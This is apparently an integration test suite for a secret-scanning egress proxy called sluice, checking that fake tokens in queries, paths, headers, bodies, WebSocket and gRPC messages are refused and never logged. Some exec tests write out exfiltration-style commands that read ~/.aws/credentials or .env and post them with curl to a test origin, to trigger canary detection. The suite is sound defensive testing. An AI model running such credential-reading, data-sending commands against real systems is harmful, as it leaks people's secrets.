"""What leaves ([scan]): secrets in what a command sends are refused on every protocol, before they
reach the origin, and never written to a log. Through `sluice serve`: a known secret format and a
credential's own value in the query, the path, a field, a cookie, JSON, form, gzip-encoded and
chunked bodies (split across chunks), over HTTP/1.1 and h2, and in a WebSocket message. Inside
`sluice exec`, as root and as 65534: the canaries planted in the private home and the caller's own
secret-looking variables. The origin (origin.py on a test host at 198.18.0.2) records what reached
it; nothing refused arrives whole. The corpus: every built-in rule's fake secret in every placement
of a request's head and body, over HTTP/1.1 and h2."""
import gzip
import hashlib
import json
import os
import shutil
import socket
import ssl
import subprocess
import tempfile
import time
import unittest
import urllib.request

from harness import PYTHON, SLUICE, Gateway, Processes, curl, header, make_ca, make_leaf, netns_upstream, status_of
from harness import log_records
from netns import TestHost
from page_driver import CHROMIUM

HERE = os.path.dirname(os.path.abspath(__file__))
M = {}
ORIGIN = "origin.test:8443"
WS_ORIGIN = "origin.test:8444"
# Fake secrets of documented shapes, made up for this test.
GITHUB = "ghp_" + "Zq7Xw2Lm9Pk4Rt6Yv8Nb3Hc5Jd1Fg0Sa2Ue4Wi"[:36]
AWS_KEY_ID = "AKIA" + "QW3ERT5YU7IO2PAS"
CREDENTIAL = "scan-test-credential-value-7f3a9c1e"


def of(alphabet, n, seed=7):
    """The unit tests' deterministic strings (tests/unit/scan/vectors.hpp), for the same vectors."""
    return "".join(alphabet[(i * 31 + seed * 17 + i * i) % len(alphabet)] for i in range(n))


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
URLSAFE = ALNUM + "_-"
# One fake secret per built-in rule (the first vector of tests/unit/scan/rules_test.cpp): every rule
# sluice ships, end to end.
CORPUS = {
    "github_token": "ghp_" + of(ALNUM, 36),
    "github_fine_grained_token": "github_pat_" + of(ALNUM, 22) + "_" + of(ALNUM, 59),
    "gitlab_token": "glpat-" + of(URLSAFE, 20),
    "aws_access_key_id": "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_access_key": "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    "anthropic_api_key": "sk-ant-api03-" + of(URLSAFE, 93) + "AA",
    "openai_api_key": "sk-proj-" + of(URLSAFE, 120),
    "slack_token": "xoxb-123456789012-1234567890123-" + of(ALNUM, 24),
    "slack_webhook_url": "https://hooks.slack.com/services/T0AB12CD3/B0CD45EF6/" + of(ALNUM, 24),
    "stripe_secret_key": "sk_live_" + of(ALNUM, 24),
    "google_api_key": "AIza" + of(URLSAFE, 35),
    "npm_token": "npm_" + of(ALNUM, 36),
    "pypi_token": "pypi-AgEIcHlwaS5vcmc" + of(URLSAFE, 80),
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA" + of(ALNUM, 64) + "\n" + of(ALNUM, 64),
    "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ."
           "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "huggingface_token": "hf_" + of("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 34),
    "sendgrid_api_key": "SG." + of(URLSAFE, 22) + "." + of(URLSAFE, 43),
    "twilio_api_key": "SK" + of("0123456789abcdef", 32),
    "digitalocean_token": "dop_v1_" + of("0123456789abcdef", 64),
    "shopify_token": "shpat_" + of("0123456789abcdef", 32),
}
NORMAL_TEXT = b"a plain update: 42 files changed, build green, see sk- prefix docs and AKIA notes\n"


def setUpModule():
    if os.geteuid() != 0:
        raise unittest.SkipTest("the scan suite sets up a network namespace and needs root")
    M["tmp"] = d = tempfile.mkdtemp(prefix="sluice-scan-test-")
    os.chmod(d, 0o755)
    ca = make_ca(d, "origin-ca")
    leaf = make_leaf(d, ca, "origin.test", "DNS:origin.test")
    for f in os.listdir(d):
        os.chmod(os.path.join(d, f), 0o644)
    M["record"] = os.path.join(d, "origin-requests.jsonl")
    M["ws_log"] = os.path.join(d, "ws.log")
    host = M["host"] = TestHost()
    env = dict(os.environ, ORIGIN_HOST="198.18.0.2", ORIGIN_RECORD=M["record"], WS_LOG=M["ws_log"],
               WS_COMPRESSION="deflate")
    p = host.start(PYTHON, os.path.join(HERE, "origin.py"), "8443", *leaf, env=env)
    assert p.stdout.readline().strip() == b"ready"
    p = host.start(PYTHON, os.path.join(HERE, "ws_origin.py"), "8444", *leaf, env=env)
    assert p.stdout.readline().strip() == b"ready"
    M["upstream"] = netns_upstream(ca[0], ["origin.test"])
    M["procs"] = Processes()


def tearDownModule():
    if "procs" in M:
        M["procs"].stop_all()
    if "host" in M:
        M["host"].close()
    if "tmp" in M:
        shutil.rmtree(M["tmp"], ignore_errors=True)


def completed(path):
    """Requests to `path` whose body origin.py read whole."""
    f = M["record"] + ".complete"
    if not os.path.exists(f):
        return []
    with open(f) as fh:
        return [r for r in map(json.loads, fh) if r["path"] == path]


def heads(path_prefix):
    if not os.path.exists(M["record"]):
        return []
    with open(M["record"]) as fh:
        return [r for r in map(json.loads, fh) if r["path"].startswith(path_prefix)]


def tunnel(gw):
    """A TLS connection to ORIGIN through the proxy: CONNECT, then TLS with the gateway's CA."""
    s = socket.create_connection(("127.0.0.1", gw.port), timeout=10)
    s.sendall(f"CONNECT {ORIGIN} HTTP/1.1\r\nHost: {ORIGIN}\r\n\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got:
        got += s.recv(4096)
    return ssl.create_default_context(cafile=gw.ca).wrap_socket(s, server_hostname="origin.test")


def read_head(t, end=b"\r\n"):
    """What the server sent, read until `end` (the status line, by default) or its close."""
    resp = b""
    while end not in resp:
        chunk = t.recv(4096)
        if not chunk:
            break
        resp += chunk
    return resp


def chunked_post(gw, path, pieces):
    """POST with a chunked body, each piece its own chunk sent after a pause, through the proxy
    (CONNECT, then TLS with the gateway's CA): returns the status line's code."""
    t = tunnel(gw)
    t.sendall(f"POST {path} HTTP/1.1\r\nHost: {ORIGIN}\r\nTransfer-Encoding: chunked\r\n"
              "Content-Type: text/plain\r\n\r\n".encode())
    for piece in pieces:
        t.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
        time.sleep(0.2)
    try:
        t.sendall(b"0\r\n\r\n")
    except OSError:
        pass
    resp = b""
    try:
        resp = read_head(t)
    except OSError:
        pass
    t.close()
    return int(resp.split(b" ")[1]) if resp.startswith(b"HTTP/1.1 ") else 0


WS_CLIENT = r'''
import asyncio, json, os, socket, ssl, sys
import websockets
proxy_port, ca, message = int(sys.argv[1]), sys.argv[2], sys.argv[3]
compression = sys.argv[4] if len(sys.argv) > 4 else None  # "deflate": permessage-deflate offered
path = sys.argv[5] if len(sys.argv) > 5 else "/scan-ws"
hello = sys.argv[6] if len(sys.argv) > 6 else "hello"
s = socket.create_connection(("127.0.0.1", proxy_port))
s.sendall(b"CONNECT origin.test:8444 HTTP/1.1\r\nHost: origin.test:8444\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(4096)
async def main():
    async with websockets.connect("wss://origin.test:8444" + path, sock=s, server_hostname="origin.test",
                                  ssl=ssl.create_default_context(cafile=ca), compression=compression) as ws:
        extensions = [type(e).__name__ for e in ws.extensions]
        await ws.send(hello)
        first = await ws.recv()
        await ws.send(message)
        try:
            await asyncio.wait_for(ws.recv(), 5)
            print(json.dumps({"first": first, "second": "echoed", "extensions": extensions}))
        except websockets.ConnectionClosed as e:
            print(json.dumps({"first": first, "close": e.code, "extensions": extensions}))
asyncio.run(main())
'''


# Every corpus secret in a WebSocket message (every other connection offering permessage-deflate)
# and in a gRPC message (every other one gzip-compressed); prints {rule: {"ws": {close, extensions}, "grpc": "CODE details"}}.
CORPUS_MESSAGES = r'''
import asyncio, json, socket, ssl, sys
import grpc, websockets
proxy_port, ca, corpus, origin = int(sys.argv[1]), sys.argv[2], json.load(open(sys.argv[3])), sys.argv[4]

def varint(n):
    out = b""
    while True:
        b, n = n & 0x7f, n >> 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out

async def ws_one(path, message, compression):
    s = socket.create_connection(("127.0.0.1", proxy_port))
    s.sendall(b"CONNECT origin.test:8444 HTTP/1.1\r\nHost: origin.test:8444\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    async with websockets.connect("wss://origin.test:8444" + path, sock=s, server_hostname="origin.test",
                                  ssl=ssl.create_default_context(cafile=ca), compression=compression) as ws:
        extensions = [type(e).__name__ for e in ws.extensions]
        await ws.send(message)
        try:
            await asyncio.wait_for(ws.recv(), 5)
            return {"close": "echoed", "extensions": extensions}
        except websockets.ConnectionClosed as e:
            return {"close": e.code, "extensions": extensions}

out = {}
channel = grpc.secure_channel(origin, grpc.ssl_channel_credentials(open(ca, "rb").read()))
for i, (rule, secret) in enumerate(sorted(corpus.items())):
    ws = asyncio.run(ws_one("/corpus-ws/" + rule, "note: " + secret, "deflate" if i % 2 else None))
    data = secret.encode()
    try:
        channel.unary_unary("/corpus.Rule/" + rule)(b"\x0a" + varint(len(data)) + data, timeout=10,
                                                    compression=grpc.Compression.Gzip if i % 2 else None)
        call = "OK"
    except grpc.RpcError as e:
        call = "%s %s" % (e.code().name, e.details())
    out[rule] = {"ws": ws, "grpc": call}
print(json.dumps(out))
'''


# Inside exec: every corpus secret in four placements, by curl through the run's gateway; prints
# "PATH CODE" per request.
EXEC_CORPUS = r'''
import json, subprocess, sys
from urllib.parse import quote
corpus = json.load(open(sys.argv[1]))
for rule, secret in sorted(corpus.items()):
    base = "https://origin.test:8443/echo/corpus-x/%s/" + rule
    cases = [(base % "q", ["-G", "--data-urlencode", "v=" + secret]),
             (base % "j", ["-H", "Content-Type: application/json", "--data-binary", json.dumps({"v": secret})]),
             (base % "f", ["--data-urlencode", "v=" + secret])]
    if "\n" not in secret:
        cases.append((base % "h", ["-H", "X-Corpus: " + secret]))
    for url, args in cases:
        code = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}"] + args + [url],
                              capture_output=True, text=True).stdout
        print(url.split("8443", 1)[1], code, flush=True)
'''


class ScanThroughServe(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        d = M["tmp"]
        os.environ["SCAN_TEST_CREDENTIAL"] = CREDENTIAL
        cls.gw = Gateway(M["procs"], d, f"""profile = "publish"
[policy]
allow = ["{ORIGIN}", "{WS_ORIGIN}"]
[credentials.api]
source = "env:SCAN_TEST_CREDENTIAL"
hosts = ["api.example.test"]
""" + M["upstream"], "scanserve")

    def refused(self, p, path, rule, location=None, reason="secret_detected"):
        text = p.stderr.decode()
        self.assertEqual(status_of(text), 403, text[-2000:])
        self.assertIn('details="%s"' % reason, header(text, "Proxy-Status"))
        # A secret in the path takes the path out of the log (never the value): /REDACTED.
        logged = "/REDACTED" if location == "path" else path.split("?")[0]
        self.assertTrue(self.gw.logged(lambda r: r["path"].startswith(logged)
                                       and r.get("scan_rule") == rule), (path, rule))
        line = [r for r in self.gw.access_log() if r.get("scan_rule") == rule and r["path"].startswith(logged)][-1]
        self.assertEqual(line["reason"], reason)
        if location:
            self.assertTrue(line["scan_location"].startswith(location), line)
        self.assertEqual(completed(path.split("?")[0]), [], path)

    def test_secrets_in_the_head_are_refused_before_anything_leaves(self):
        url = "https://%s" % ORIGIN
        cases = [
            ("/q1?token=" + GITHUB, [], "github_token", "query:token"),
            ("/p/" + GITHUB, [], "github_token", "path"),
            ("/h1", ["-H", "X-Note: key " + AWS_KEY_ID], "aws_access_key_id", "field:x-note"),
            ("/c1", ["-b", "session=" + GITHUB], "github_token", "field:cookie"),
            ("/q2?x=" + CREDENTIAL.replace("-", "%2D"), [], "own_secret:credential:api", "query"),
        ]
        for path, args, rule, location in cases:
            for proto in ("--http1.1", "--http2"):
                p = curl(self.gw, url + path, proto, *args)
                self.refused(p, path, rule, location)
                self.assertEqual(heads(path.split("?")[0]), [], (path, proto))

    def test_every_rules_format_in_every_placement(self):
        """The corpus: each built-in rule's fake secret in the query, the path, a field and a cookie
        (one-line secrets: a field cannot hold a line break), a JSON, form and gzip body, over
        HTTP/1.1 and h2, and split across two chunks: each refused with its rule, none at the origin."""
        from urllib.parse import quote
        url = "https://%s" % ORIGIN
        gz = os.path.join(M["tmp"], "corpus.gz")
        self.assertEqual(sorted(CORPUS), sorted(self.builtin_ids()))
        for rule, secret in sorted(CORPUS.items()):
            with open(gz, "wb") as f:
                f.write(gzip.compress(b"note: " + secret.encode()))
            cases = [("/corpus/q/%s?v=%s" % (rule, quote(secret, safe="")), [], "query:v"),
                     ("/corpus/p/%s/%s" % (rule, quote(secret, safe="")), [], "path")]
            if "\n" not in secret:
                cases += [("/corpus/h/" + rule, ["-H", "X-Corpus: " + secret], "field:x-corpus"),
                          ("/corpus/c/" + rule, ["-b", "c=" + secret], "field:cookie")]
            cases += [("/echo/corpus/j/" + rule, ["-H", "Content-Type: application/json", "--data-binary",
                                                  json.dumps({"v": secret})], "body"),
                      ("/echo/corpus/f/" + rule, ["--data-urlencode", "v=" + secret], "body"),
                      ("/echo/corpus/g/" + rule, ["-H", "Content-Encoding: gzip", "--data-binary", "@" + gz], "body")]
            for path, args, location in cases:
                for proto in ("--http1.1", "--http2"):
                    with self.subTest(rule=rule, placement=path.split("/")[2 if path.startswith("/corpus") else 3],
                                      proto=proto):
                        p = curl(self.gw, url + path, proto, *args)
                        self.refused(p, path, rule, location)  # for bodies: none arrived whole
                        if location != "body":  # a head is judged before anything leaves
                            self.assertEqual(heads(path.split("?")[0]), [], (rule, path, proto))
            half = len(secret) // 2
            split = "/echo/corpus/s/" + rule
            self.assertEqual(chunked_post(self.gw, split, [b"x " + secret[:half].encode(), secret[half:].encode()]), 403)
            self.assertTrue(self.gw.logged(lambda r: r["path"] == split and r.get("scan_rule") == rule), rule)
            self.assertEqual(completed(split), [], rule)
        with open(self.gw.log) as f:
            log = f.read()
        for secret in CORPUS.values():
            self.assertNotIn(secret.split("\n")[0][-20:], log)

    def test_every_rules_format_in_a_websocket_and_a_grpc_message(self):
        """The corpus's other placements: each built-in rule's fake secret in a WebSocket message
        (every other one compressed with permessage-deflate) and in a gRPC message (every other one
        gzip-compressed, found only once inflated: "grpc:..."), one client for all: each closed
        1008 or refused PERMISSION_DENIED with its rule, none at the origin."""
        script = os.path.join(M["tmp"], "corpus_messages.py")
        with open(script, "w") as f:
            f.write(CORPUS_MESSAGES)
        corpus = os.path.join(M["tmp"], "corpus.json")
        with open(corpus, "w") as f:
            json.dump(CORPUS, f)
        env = dict(os.environ, https_proxy=self.gw.proxy, grpc_proxy=self.gw.proxy, no_grpc_proxy="")
        p = subprocess.run([PYTHON, script, str(self.gw.port), self.gw.ca, corpus, ORIGIN], capture_output=True,
                           env=env, timeout=240)
        self.assertEqual(p.returncode, 0, p.stderr.decode()[-2000:])
        got = json.loads(p.stdout)
        paths = {prefix + rule for rule in CORPUS for prefix in ("/corpus-ws/", "/corpus.Rule/")}
        log = self.gw.wait_log(lambda lines: paths <= {r["path"] for r in lines})
        for i, rule in enumerate(sorted(CORPUS)):
            with self.subTest(rule=rule):
                ws = got[rule]["ws"]
                self.assertEqual((ws["close"], ws["extensions"]), (1008, ["PerMessageDeflate"] if i % 2 else []))
                self.assertTrue(got[rule]["grpc"].startswith("PERMISSION_DENIED"), got[rule]["grpc"])
                for path, protocol in (("/corpus-ws/" + rule, "websocket"), ("/corpus.Rule/" + rule, "grpc")):
                    lines = [r for r in log if r["path"] == path]
                    self.assertEqual([(r["protocol"], r["decision"], r["scan_rule"]) for r in lines[-1:]],
                                     [(protocol, "deny", rule)], lines)
                    if protocol == "grpc" and i % 2:  # the gzip-compressed message: seen inflated
                        self.assertTrue(lines[-1]["scan_location"].startswith("grpc:"), lines[-1])
                self.assertEqual(completed("/corpus.Rule/" + rule), [])
        with open(M["ws_log"]) as f:
            self.assertEqual([l for l in f if l.startswith("message /corpus-ws/")], [])
        with open(self.gw.log) as f:
            text = f.read()
        for secret in CORPUS.values():
            self.assertNotIn(secret.split("\n")[0][-20:], text)

    def builtin_ids(self):
        """The built-in rules' ids, as sluice lists them in its docs' table (docs/policy.md)."""
        with open(os.path.join(HERE, "../../scan/rule.hpp")) as f:
            text = f.read()
        listed = text[text.index("Stable ids:") + len("Stable ids:"):text.index("const std::vector<rule> &builtin_rules")]
        return [w.strip(" /.,\n") for w in listed.replace("//", " ").split(",") if w.strip(" /.,\n")]

    def test_the_live_page_shows_findings_never_the_value(self):
        """/api/stats lists the latest findings (kind, rule, where, action, destination) and counts
        them by kind; the live page, rendered by headless Chromium, shows them in their own table.
        The value found is in neither."""
        p = curl(self.gw, "https://%s/live-page?token=%s" % (ORIGIN, GITHUB), "--http1.1")
        self.assertEqual(status_of(p.stderr.decode()), 403)
        # The finding is recorded after the client has its answer (as the log line is): read the
        # stats until it is there, for up to 5 s (a clean-clone CI run read them first).
        deadline = time.monotonic() + 5
        while True:
            with urllib.request.urlopen("http://127.0.0.1:%d/api/stats" % self.gw.admin, timeout=10) as r:
                stats = json.load(r)
            found = [f for f in stats["findings"] if f["path"].startswith("/live-page")]
            if found or time.monotonic() > deadline:
                break
            time.sleep(0.05)
        self.assertEqual([(f["kind"], f["rule"], f["location"], f["action"], f["decision"], f["host"])
                          for f in found], [("format", "github_token", "query:token", "block", "deny", ORIGIN.split(":")[0])])
        self.assertGreaterEqual(stats["totals"]["findings"]["format"], 1)
        self.assertNotIn(GITHUB, json.dumps(stats))
        if not os.path.exists(CHROMIUM):
            self.skipTest("no Chromium to render the live page")
        page = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                               "--virtual-time-budget=5000", "--dump-dom", "http://127.0.0.1:%d/" % self.gw.admin],
                              capture_output=True, timeout=60, text=True).stdout
        table = page[page.index('id="findings-wrap"'):page.index('id="denials"')]
        self.assertNotIn("hidden", table[:60])
        self.assertIn("github_token", table)
        self.assertIn("query:token", table)
        self.assertIn("refused", table)
        self.assertNotIn(GITHUB, page)

    def test_a_sender_still_writing_a_refused_body_reads_the_answer_not_a_reset(self):
        """A client that goes on writing a body after the secret in it was refused (as curl does
        with a large upload) gets to the end of its writes and reads the 403: sluice reads and
        drops what still comes before it closes, instead of a reset that fails the client's next
        write and loses the answer (CI saw curl's "Send failure: Connection reset by peer")."""
        path = "/echo/linger"
        rest = 16 * 1024 * 1024
        first = b"x " + GITHUB.encode() + b" "
        t = tunnel(self.gw)
        t.sendall(f"POST {path} HTTP/1.1\r\nHost: {ORIGIN}\r\nContent-Length: {len(first) + rest}\r\n"
                  "Content-Type: text/plain\r\n\r\n".encode() + first)
        self.assertTrue(self.gw.logged(lambda r: r["path"] == path and r.get("scan_rule") == "github_token"))
        time.sleep(0.2)  # the answer sent and the connection ended on sluice's side
        piece = b"ordinary text " * 4681
        sent = 0
        try:
            while sent < rest:
                sent += t.send(piece[:rest - sent])
        except OSError as e:
            self.fail("writing the rest of the body failed after %d bytes: %r" % (sent, e))
        try:
            resp = read_head(t, b"\r\n\r\n")
        finally:
            t.close()
        self.assertTrue(resp.startswith(b"HTTP/1.1 403 "), resp[:300])
        self.assertIn(b"secret_detected", resp)
        self.assertEqual(completed(path), [])

    def test_secrets_in_bodies_never_arrive_whole(self):
        url = "https://%s" % ORIGIN
        gz = os.path.join(M["tmp"], "body.gz")
        with open(gz, "wb") as f:
            f.write(gzip.compress(b'{"note": "' + GITHUB.encode() + b'"}'))
        import base64
        cases = [
            ("/b-json", ["-H", "Content-Type: application/json", "--data-binary",
                         '{"a": 1, "token": "%s"}' % GITHUB], "github_token"),
            ("/b-form", ["--data-urlencode", "k=" + AWS_KEY_ID], "aws_access_key_id"),
            ("/b-gzip", ["-H", "Content-Encoding: gzip", "--data-binary", "@" + gz], "github_token"),
            ("/b-b64", ["--data-binary", base64.b64encode(b"creds: " + CREDENTIAL.encode()).decode()],
             "own_secret:credential:api"),
        ]
        for path, args, rule in cases:
            for proto in ("--http1.1", "--http2"):
                p = curl(self.gw, url + "/echo" + path, proto, "-X", "POST", *args)
                self.refused(p, "/echo" + path, rule, "body")
        # A secret split across two chunks, sent apart: found, and the request never completes.
        half = len(GITHUB) // 2
        code = chunked_post(self.gw, "/echo/b-split", [b"prefix " + GITHUB[:half].encode(),
                                                       GITHUB[half:].encode() + b" suffix"])
        self.assertEqual(code, 403)
        self.assertTrue(self.gw.logged(lambda r: r["path"] == "/echo/b-split" and r.get("scan_rule") == "github_token"))
        self.assertEqual(completed("/echo/b-split"), [])

    def test_large_bodies_are_scanned_whole_and_arrive_intact(self):
        # Bodies of megabytes, relayed in many pieces, each scanned before it leaves: the clean one
        # arrives byte for byte, a secret anywhere in one (deep inside, or as its very last bytes)
        # is refused at its offset and the body never arrives whole; over HTTP/1.1 and h2.
        url = "https://%s" % ORIGIN
        text = (b"ordinary text of a large upload, line after line; " * 21 + b"\n") * 4096  # 4.3 MiB
        at = 2 * 1024 * 1024 + 64 * 1024 - 18  # across a 64 KiB boundary of the body, where reads often split it
        bodies = {
            "clean": text,
            "inside": text[:at] + b" " + GITHUB.encode() + b" " + text[at:],
            "at-end": text + b" " + GITHUB.encode(),
        }
        for name, body in bodies.items():
            path = os.path.join(M["tmp"], "large-" + name)
            with open(path, "wb") as f:
                f.write(body)
            for proto in ("--http1.1", "--http2"):
                target = "/echo/large-%s%s" % (name, proto.replace("--http", "-"))
                p = curl(self.gw, url + target, proto, "-X", "POST", "--data-binary", "@" + path)
                if name == "clean":
                    self.assertEqual(status_of(p.stderr.decode()), 200, p.stderr.decode()[-2000:])
                    self.assertEqual(hashlib.sha256(p.stdout).hexdigest(), hashlib.sha256(body).hexdigest(), proto)
                    self.assertEqual([r["bytes"] for r in completed(target)], [len(body)], proto)
                else:
                    self.refused(p, target, "github_token", "body")
                    line = [r for r in self.gw.access_log() if r["path"] == target][-1]
                    self.assertEqual(line["scan_location"], "body@%d" % ((at if name == "inside" else len(text)) + 1))

    def test_a_websocket_message_with_a_secret_closes_the_connection(self):
        script = os.path.join(M["tmp"], "ws_scan_client.py")
        with open(script, "w") as f:
            f.write(WS_CLIENT)
        p = subprocess.run([PYTHON, script, str(self.gw.port), self.gw.ca, "here: " + GITHUB],
                           capture_output=True, timeout=30)
        self.assertEqual(p.returncode, 0, p.stderr.decode()[-2000:])
        out = json.loads(p.stdout)
        self.assertEqual(out, {"first": "hello", "close": 1008, "extensions": []})
        self.assertTrue(self.gw.logged(lambda r: r["path"] == "/scan-ws" and r.get("scan_rule") == "github_token"))
        line = [r for r in self.gw.access_log() if r["path"] == "/scan-ws"][-1]
        self.assertEqual((line["decision"], line["reason"]), ("deny", "secret_detected"))
        self.assertTrue(line["scan_location"].startswith("message:2"), line)
        with open(M["ws_log"]) as f:
            messages = [l.split() for l in f if l.startswith("message /scan-ws ")]
        self.assertEqual(len(messages), 1, messages)  # "hello" only

    def test_a_compressed_websocket_message_is_scanned_inflated(self):
        # permessage-deflate, as Python's websockets, browsers and Node's ws offer it by default:
        # the messages are inflated for the scan (the window kept from one to the next) and pass
        # on compressed as they came.
        script = os.path.join(M["tmp"], "ws_scan_client.py")
        with open(script, "w") as f:
            f.write(WS_CLIENT)
        hello = "hello, " + "the same words again " * 50
        p = subprocess.run([PYTHON, script, str(self.gw.port), self.gw.ca,
                            hello + "here: " + GITHUB, "deflate", "/scan-ws-deflate", hello],
                           capture_output=True, timeout=30)
        self.assertEqual(p.returncode, 0, p.stderr.decode()[-2000:])
        out = json.loads(p.stdout)
        self.assertEqual(out, {"first": hello, "close": 1008, "extensions": ["PerMessageDeflate"]})
        line = self.gw.lines_where(lambda r: r["path"] == "/scan-ws-deflate")[-1]
        self.assertEqual((line["decision"], line["reason"], line["scan_rule"]),
                         ("deny", "secret_detected", "github_token"), line)
        self.assertTrue(line["scan_location"].startswith("message:2"), line)
        with open(M["ws_log"]) as f:
            messages = [l.split() for l in f if l.startswith("message /scan-ws-deflate ")]
        self.assertEqual(messages, [["message", "/scan-ws-deflate", str(len(hello))]])

    def test_a_grpc_message_with_a_secret_is_refused_with_a_grpc_status(self):
        script = f"""
import grpc
creds = grpc.ssl_channel_credentials(open({self.gw.ca!r}, 'rb').read())
ch = grpc.secure_channel('{ORIGIN}', creds)
try:
    ch.unary_unary('/pkg.Notes/Put')(b'\\x0a\\x28' + {GITHUB!r}.encode(), timeout=10)
    print('OK')
except grpc.RpcError as e:
    print(e.code().name, e.details())
"""
        env = dict(os.environ, https_proxy=self.gw.proxy, grpc_proxy=self.gw.proxy, no_grpc_proxy="")
        p = subprocess.run([PYTHON, "-c", script], capture_output=True, env=env, timeout=30)
        out = p.stdout.decode()
        self.assertTrue(out.startswith("PERMISSION_DENIED"), out + p.stderr.decode()[-1500:])
        self.assertIn("secret_detected", out)
        self.assertTrue(self.gw.logged(lambda r: r["path"] == "/pkg.Notes/Put" and r.get("scan_rule") == "github_token"))
        r = [r for r in self.gw.access_log() if r["path"] == "/pkg.Notes/Put"][-1]
        self.assertEqual((r["protocol"], r["decision"], r["reason"]), ("grpc", "deny", "secret_detected"))
        self.assertEqual(completed("/pkg.Notes/Put"), [])

    def test_ordinary_work_passes_and_no_secret_is_logged(self):
        url = "https://%s/echo/plain" % ORIGIN
        for proto in ("--http1.1", "--http2"):
            p = curl(self.gw, url, proto, "-X", "POST", "--data-binary", NORMAL_TEXT.decode())
            self.assertEqual(status_of(p.stderr.decode()), 200, p.stderr)
            self.assertEqual(p.stdout, NORMAL_TEXT)
        # sluice check scans a sample request the same way.
        body = os.path.join(M["tmp"], "sample.json")
        with open(body, "w") as f:
            f.write('{"t": "%s"}' % GITHUB)
        c = subprocess.run([SLUICE, "check", "--config", self.gw.config, "--body", body, "POST",
                            "https://%s/echo" % ORIGIN], capture_output=True, text=True)
        self.assertEqual(c.returncode, 1, c.stdout + c.stderr)
        self.assertIn("DENY reason=secret_detected rule=scan:github_token location=body", c.stdout)
        self.assertGreaterEqual(self.gw.metric("sluice_scan_findings_total", kind="format", rule="github_token",
                                               action="block"), 1)
        with open(self.gw.log) as f:
            text = f.read()
        for secret in (GITHUB, AWS_KEY_ID, CREDENTIAL):
            self.assertNotIn(secret, text)


class ScanInsideExecAsRoot(unittest.TestCase):
    user = None

    @classmethod
    def setUpClass(cls):
        cls.policy = os.path.join(M["tmp"], "exec-scan-policy.toml")
        with open(cls.policy, "w") as f:
            f.write(f"""[skills.default]
default_profile = "network-read"
escalations = ["publish"]
allow_domains = ["{ORIGIN}"]
""" + M["upstream"])
        os.chmod(cls.policy, 0o644)

    def setUp(self):
        self.work = tempfile.mkdtemp(prefix="sluice-scan-case-")
        os.chmod(self.work, 0o777)

    def tearDown(self):
        shutil.rmtree(self.work, ignore_errors=True)

    def sx(self, profile, script, extra_env=None):
        prefix = [] if self.user is None else ["setpriv", "--reuid=%d" % self.user, "--regid=%d" % self.user,
                                               "--clear-groups"]
        log = os.path.join(self.work, "access.log")
        summary = os.path.join(self.work, "summary.json")
        args = [SLUICE, "exec", "--policy", self.policy, "--sandbox-profile", profile, "--access-log", log,
                "--json-summary", summary]
        if profile == "publish":
            args.append("--confirm-external-side-effects")
        home = os.path.join(self.work, "home")
        os.makedirs(home, mode=0o777, exist_ok=True)
        os.chmod(home, 0o777)
        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": home, "LANG": "C.UTF-8", **(extra_env or {})}
        p = subprocess.run(prefix + args + ["--", "/bin/sh", "-c", script], capture_output=True, env=env,
                           cwd=self.work, timeout=120)
        with open(log) as f:
            raw = f.read()
        with open(summary) as f:
            return p, log_records(raw.splitlines()), json.load(f), raw

    def test_a_canary_sent_anywhere_is_refused_and_raises_an_alert(self):
        p, lines, summary, raw = self.sx(
            "publish", "curl -s -o /dev/null -w '%{http_code}' --data-binary @$HOME/.aws/credentials "
                       "https://origin.test:8443/echo/canary")
        self.assertEqual(p.stdout, b"403", p.stderr.decode()[-2000:])
        self.assertIn("~/.aws/credentials", summary["canaries"])
        line = [l for l in lines if l["path"] == "/echo/canary"][-1]
        self.assertEqual((line["decision"], line["reason"]), ("deny", "canary_detected"))
        self.assertTrue(line["scan_rule"].startswith("canary:"), line)
        self.assertIn(b"ALERT: a canary planted for this run", p.stderr)
        self.assertEqual(completed("/echo/canary"), [])
        self.assertNotIn("aws_secret_access_key =", raw)

    def test_a_workspace_credential_file_shows_a_canary(self):
        with open(os.path.join(self.work, ".env"), "w") as f:
            f.write("TOKEN=planted-by-the-owner\n")
        os.chmod(os.path.join(self.work, ".env"), 0o644)
        p, lines, summary, raw = self.sx(
            "publish", "cat .env; curl -s -o /dev/null -w '%{http_code}' --data-binary @.env "
                       "https://origin.test:8443/echo/ws-canary")
        out = p.stdout.decode()
        self.assertIn("GITHUB_TOKEN=ghp_", out, p.stderr.decode()[-2000:])
        self.assertNotIn("planted-by-the-owner", out)
        self.assertTrue(out.endswith("403"), out)
        line = [l for l in lines if l["path"] == "/echo/ws-canary"][-1]
        self.assertEqual((line["reason"], line["scan_rule"]), ("canary_detected", "canary:github_token"))
        with open(os.path.join(self.work, ".env")) as f:
            self.assertEqual(f.read(), "TOKEN=planted-by-the-owner\n")  # the owner's file untouched

    def test_the_callers_own_secret_is_refused_in_a_get(self):
        value = "own-secret-value-for-scan-1c9e44"
        p, lines, summary, raw = self.sx(
            "network-read", "curl -s -o /dev/null -w '%%{http_code}' 'https://origin.test:8443/search?q=%s'" % value,
            {"SCAN_TEST_API_TOKEN": value})
        self.assertEqual(p.stdout, b"403", p.stderr.decode()[-2000:])
        self.assertIn("SCAN_TEST_API_TOKEN", summary["ownSecretsWatched"])
